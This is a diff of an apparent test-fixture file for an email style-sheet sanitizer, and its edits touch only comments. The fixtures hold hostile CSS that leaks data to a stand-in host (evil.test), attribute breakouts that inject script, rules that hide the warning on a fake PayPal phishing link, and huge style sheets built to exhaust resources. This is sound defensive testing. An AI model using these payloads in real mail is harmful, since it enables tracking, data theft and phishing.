@@ -1,8 +1,8 @@
-/** Mails written for this project whose style sheets try what no mail may, and what they may look like. */
+/** Mails written for this project: style sheets that try forbidden things, and honest ones with their expected look. */
 
 const load = 'https://evil.test';
 
-/** Each is a mail that must ask nothing of anybody, whether or not its reader lets in remote images. */
+/** Each mail must cause no request, whether or not the reader allows remote images. */
 export const loadingSheets: Record<string, string> = {
   'an attribute selector for each letter': `<style>a[href^="https://shop.test/a"]{background:url(${load}/a)} [title*=x]{background:url(${load}/b)}</style><a href="https://shop.test/abc">x</a>`,
   'a font for some letters only': `<style>@font-face{font-family:x;src:url(${load}/f);unicode-range:U+0041} p{font-family:x}</style><p>A</p>`,
@@ -22,7 +22,7 @@ export const loadingSheets: Record<string, string> = {
   'attributes around styles': `<style media='all" onload="window.__pwn=1' type="text/css">p{color:red}</style><style type=text/javascript>window.__pwn=1</style><p>x</p>`,
 };
 
-/** What is put between the words of a link that lies and the warning beside it, or over the warning. */
+/** Attacks on the warning beside a deceptive link: text between link and warning, or over the warning. */
 export const coveredWarnings: Record<string, string> = {
   'a rule for the warning itself':
     '<style>a::after,a:after,*::after{content:""!important;display:none!important;font-size:0!important}</style>@@',
@@ -46,14 +46,14 @@ export const coveredWarnings: Record<string, string> = {
   'words moved away': '<style>p,a{text-indent:-9999px!important;letter-spacing:-30px!important}</style>@@',
 };
 
-/** The mail of such an attack: `@@` stands for the words of the link, to which the attack is put. */
+/** The mail of such an attack: `@@` stands for the link's words, where the attack is inserted. */
 export function lyingMail(attack: string): string {
   const [before = '', after = ''] = attack.split('@@');
-  // What opens before the words stands outside of the link where it is a block, and what follows inside.
+  // A block before the words is outside the link; text after them is inside.
   return `${before}<p><a href="https://evil.test/login">www.paypal.com${after}</a> </p>`;
 }
 
-/** A mail of 50,000 rules, and one of a single selector that is as long. */
+/** A mail of 50,000 rules, and one with a single selector of the same length. */
 export const heavySheets: Record<string, string> = {
   'fifty thousand rules': `<style>${Array.from({ length: 50_000 }, (_, i) => `.a${i} b i u>p~p{color:red}`).join('')}</style><p>x</p>`,
   'fifty thousand selectors': `<style>${Array.from({ length: 9_000 }, (_, i) => `.a${i}`).join(',')}{color:red}</style><p>x</p>`,
